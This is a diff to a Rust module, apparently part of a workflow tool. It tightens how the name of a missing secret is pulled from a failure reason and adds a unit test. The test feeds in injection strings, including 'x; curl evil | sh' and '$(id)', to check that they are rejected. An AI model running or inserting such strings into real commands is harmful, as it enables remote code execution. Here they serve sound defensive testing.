@@ -6,7 +6,7 @@ use serde_json::Value;
 
 use crate::access::{Policy, Principal, Target, TargetKind};
 use crate::engine::Answer;
-use crate::secret::{Snapshot, Version};
+use crate::secret::{Snapshot, Version, check_name};
 use crate::words::{Map, Owner, Permission, Sensitive};
 use crate::workflow::expressions::{self, Limit, SecretReference, SecretVersion};
 
@@ -18,11 +18,13 @@ pub struct Handed {
     pub resolved: Vec<Sensitive>,
 }
 
-/// Returns the secret that a run failed for lack of, as the reason names it; none where it failed for another.
+/// Returns the secret that a run failed for lack of, as the reason names it; none where it failed for another. What is no name
+/// of a secret is none: a workflow may end with any words, and people copy the command that the name is put into.
 pub fn missing_secret(reason: &str) -> Option<&str> {
     let (_, rest) = reason.split_once("secret \"")?;
     let (name, rest) = rest.split_once('"')?;
-    rest.starts_with(" is not available to ").then_some(name)
+    let is_one = rest.starts_with(" is not available to ") && check_name(name).is_ok();
+    is_one.then_some(name)
 }
 
 /// Why a secret cannot be put into an input.
@@ -155,4 +157,22 @@ fn permitted(
 
 fn leaf(value: &Value) -> Option<Sensitive> {
     value.as_str().map(Sensitive::new)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::{NotAvailable, missing_secret};
+
+    #[test]
+    fn a_reason_names_the_secret_that_is_missing_and_nothing_else() {
+        let whole = |reason: &str| format!("Task 1 failed with status: FAILED and reason: '{reason}'");
+        let reason = NotAvailable::missing("admin_key", "rotate").to_string();
+        assert_eq!(missing_secret(&whole(&reason)), Some("admin_key"));
+        for name in ["x; curl evil | sh", "$(id)", "", "a b", "a/b"] {
+            assert_eq!(missing_secret(&NotAvailable::missing(name, "rotate").to_string()), None, "{name}");
+        }
+        for reason in ["", "secret \"a\" is fine", "secret \"a"] {
+            assert_eq!(missing_secret(reason), None, "{reason}");
+        }
+    }
 }
